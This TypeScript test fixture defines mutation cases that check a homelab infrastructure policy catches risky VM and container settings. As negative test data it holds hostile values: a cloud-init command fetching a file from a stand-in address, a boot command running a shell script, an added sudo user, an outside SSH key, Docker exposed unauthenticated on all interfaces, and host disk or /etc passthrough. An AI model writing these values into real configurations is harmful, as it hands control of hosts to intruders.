import { types } from "../../../../policies/types";
import { adding, find, rows, setting, type Mutation, type Row } from "./mutation";

const policy = "guest-hardware";
const machine = (inputs: Record<string, unknown>): Mutation["change"] =>
  setting(types.virtualMachines[0], "tooling", inputs);

/** Inputs of the program's VM, changed by what they are. */
const changing =
  (change: (inputs: Record<string, unknown>) => Record<string, unknown>): Mutation["change"] =>
  (stack) =>
    machine(change(find(stack, types.virtualMachines[0], "tooling").inputs ?? {}))(stack);

const device = (...devices: object[]): Mutation["change"] => machine({ networkDevices: devices });

const disk = (more: object): Mutation["change"] =>
  changing(({ disks }) => ({ disks: (disks as object[]).map((each) => ({ ...each, ...more })) }));

const image = (inputs: Record<string, unknown>): Mutation["change"] =>
  setting(types.downloads[0], "tooling-image", inputs);

/** A VM of the program's that has something more. */
const having = (property: string, value: unknown): Row => [
  `a VM with ${property}`,
  machine({ [property]: value }),
  `it sets \`${property}\``,
];

const told =
  (inputs: Record<string, unknown>): Mutation["change"] =>
  (stack) => {
    const vm = find(stack, types.virtualMachines[0], "tooling");
    vm.inputs = { ...vm.inputs, initialization: { ...(vm.inputs?.initialization as object), ...inputs } };
  };

const container = (inputs: Record<string, unknown>): Mutation["change"] =>
  adding(types.systemContainers[0], { vmId: 171, nodeName: "pve-mon", unprivileged: true, ...inputs });

const upload = (inputs: Record<string, unknown>): Mutation["change"] =>
  adding(types.uploads[0], { contentType: "snippets", datastoreId: "local", nodeName: "pve-mon", ...inputs });
const onNode = "it puts a file on the node";

/** The VM's user data with one text in place of another. */
const userData =
  (from: string | RegExp, to: string): Mutation["change"] =>
  (stack) => {
    const { inputs } = find(stack, types.uploads[0], "tooling-user-data");
    const { value } = inputs?.sourceRaw as { value: { fileName: string; data: string } };
    const data = value.data.replace(from, to);
    if (data === value.data) throw new Error(`the user data has no ${String(from)}: ${data}`);
    const sourceRaw = { ...value, data };
    setting(types.uploads[0], "tooling-user-data", { sourceRaw })(stack);
  };
const otherwise = "it tells a VM something else than its component does";

const connected = (ipv4: object, more: object = {}): Mutation["change"] =>
  told({ ipConfigs: [{ ipv4: { address: "192.168.1.60/24", gateway: "192.168.1.1", ...ipv4 }, ...more }] });

/** Ways of a VM's to be down, or to talk by way of others. */
const away: readonly Mutation[] = [
  ...rows(
    "restart-policy",
    ["a VM that stays off after a power cut", machine({ onBoot: false }), "its `onBoot` is false"],
    ["a VM that is off", machine({ started: false }), "its `started` is false"],
  ),
  ...rows(
    "address-plan",
    ["a VM with another gateway", connected({ gateway: "192.168.1.99" }), "its gateway is 192.168.1.99"],
    ["a VM that asks others", told({ dns: { servers: ["203.0.113.9"] } }), "it asks 203.0.113.9 for names"],
    ["a VM with IPv6", connected({}, { ipv6: { address: "auto" } }), "it has an IPv6 address"],
  ),
];

/** Ways onto the node. */
const ontoTheNode: readonly Mutation[] = rows(
  policy,
  having("hookScriptFileId", "local:snippets/x.sh"),
  having("kvmArguments", "-drive file=/dev/sda"),
  having("hostpcis", [{ device: "hostpci0", id: "0000:00:02.0" }]),
  having("usbs", [{ host: "1234:5678" }]),
  having("virtiofs", [{ mapping: "rootfs" }]),
  [
    "a VM with a serial device of the node",
    machine({ serialDevices: [{ device: "/dev/ttyS0" }] }),
    "it has the node's /dev/ttyS0",
  ],
  [
    "a VM with a disk of the node",
    machine({ disks: [{ interface: "scsi1", datastoreId: "", pathInDatastore: "/dev/sda" }] }),
    "its disk is /dev/sda",
  ],
  [
    "a VM that is told somebody else's file",
    told({ userDataFileId: "local:snippets/x.yaml" }),
    "which is no file of this stack",
  ],
  [
    "a VM that is told more",
    told({ vendorDataFileId: "local:snippets/x.yaml" }),
    "it sets `initialization.vendorDataFileId`",
  ],
  ["a VM with a password", told({ userAccount: { password: "x" } }), "it sets `initialization.userAccount`"],
  ["a VM on another bridge", device({ bridge: "vmbr9" }), "its `networkDevices[].bridge` is vmbr9; set it to vmbr0"],
  ["a VM on one more bridge", device({ bridge: "vmbr0" }, { bridge: "wan0" }), "is vmbr0, wan0; set it to vmbr0"],
  ["a VM twice on its bridge", device({ bridge: "vmbr0" }, { bridge: "vmbr0" }), "it needs one network device"],
  ["a VM without a network", device(), "its `networkDevices[].bridge` is not given"],
  ["a VM off its network", device({ bridge: "vmbr0", disconnected: true }), "it needs one network device"],
  ["a VM in another VLAN", device({ bridge: "vmbr0", vlanId: 66 }), "it sets `networkDevices[].vlanId`"],
  ["a VM whose memory shrinks", machine({ memory: { dedicated: 6144, floating: 512 } }), "its memory may shrink"],
  [
    "a backup somewhere else",
    setting(types.backupJobs[0], "tooling-backup", { storage: "usb" }),
    "its `storage` is usb; set it to local",
  ],
  ["a VM without a disk", machine({ disks: [] }), "its `disks[].datastoreId` is not given; set it to local-lvm"],
  ["a VM on another datastore", disk({ datastoreId: "usb" }), "its `disks[].datastoreId` is usb"],
  ["a VM whose disk forgets", disk({ cache: "unsafe" }), "its disk forgets what was written when the power goes"],
  ["a VM in no pool", machine({ poolId: undefined }), "its `poolId` is not given; set it to homelab"],
  [
    "another image with its checksum",
    image({ url: "https://example.org/x.qcow2", checksum: "f".repeat(128) }),
    "its `checksum` is ffff",
  ],
  [
    "an image from elsewhere",
    image({ url: "https://example.org/x.qcow2" }),
    "its `url` is https://example.org/x.qcow2",
  ],
  ["a privileged system container", container({ unprivileged: false }), "its root is the node's"],
  ["a system container without a word of it", container({ unprivileged: undefined }), "its root is the node's"],
  [
    "a system container with the node's files",
    container({ mountPoints: [{ volume: "/etc", path: "/x" }] }),
    "it mounts /etc",
  ],
  [
    "a system container with features",
    container({ features: { nesting: true, keyctl: true } }),
    "it sets `features.keyctl`",
  ],
  [
    "a system container with a device",
    container({ devicePassthroughs: [{ path: "/dev/sda" }] }),
    "`devicePassthroughs`",
  ],
  [
    "a system container with a hook script",
    container({ hookScriptFileId: "local:snippets/x.sh" }),
    "`hookScriptFileId`",
  ],
  [
    "a hook script on the node",
    upload({ sourceRaw: { fileName: "x.sh", data: "#!/bin/sh" }, fileMode: "0755" }),
    onNode,
  ],
  ["an image on the node", upload({ contentType: "iso", sourceFile: { path: "/x.iso" } }), onNode],
  [
    "user data that others may read",
    setting(types.uploads[0], "tooling-user-data", { fileMode: "0644" }),
    "others on the node may read it",
  ],
  ["another key", userData(/ssh-ed25519 \S+ operator/, "ssh-ed25519 BBBB somebody"), otherwise],
  ["a second key", userData(/- ssh-ed25519 \S+ operator/, "$&\n      - ssh-ed25519 BBBB somebody"), otherwise],
  [
    "a key of somebody else's from the start",
    (stack) => {
      const { inputs } = find(stack, "homelab:host:ToolingVm", "tooling");
      const publicKey = "ssh-ed25519 BBBB somebody";
      Object.assign(inputs ?? {}, { operatorKey: { ...(inputs?.operatorKey as object), publicKey } });
      userData(/ssh-ed25519 \S+ operator/, publicKey)(stack);
    },
    "it lets in a key that is not the operator's",
  ],
  [
    "a key that nobody can compare with the operator's",
    (stack) => {
      const { inputs } = find(stack, "homelab:host:ToolingVm", "tooling");
      Object.assign(inputs ?? {}, { operatorKey: { ...(inputs?.operatorKey as object), file: "/nowhere/id" } });
    },
    "it lets in a key that is not the operator's",
  ],
  ["a second user", userData("users:\n", "users:\n  - name: somebody\n    sudo: ALL\n"), otherwise],
  ["a command", userData("runcmd:\n", "runcmd:\n  - [curl, -o, /x, 'http://198.51.100.1/x']\n"), otherwise],
  ["an early command", userData("runcmd:\n", "bootcmd:\n  - [sh, /x]\nruncmd:\n"), otherwise],
  ["a login with a password", userData("ssh_pwauth: false", "ssh_pwauth: true"), otherwise],
  ["another Docker", userData('"live-restore": true', '"hosts": ["tcp://0.0.0.0:2375"]'), otherwise],
  ["another program at the start", userData("systemctl restart ssh", "systemctl disable ssh"), otherwise],
  ["no YAML", userData("runcmd:", "runcmd: ]"), otherwise],
  [
    "a file of this computer's",
    setting(types.uploads[0], "tooling-user-data", { sourceFile: { path: "/etc/x" } }),
    "it sets `sourceFile`",
  ],
);

export const guestMutations: readonly Mutation[] = [...away, ...ontoTheNode];
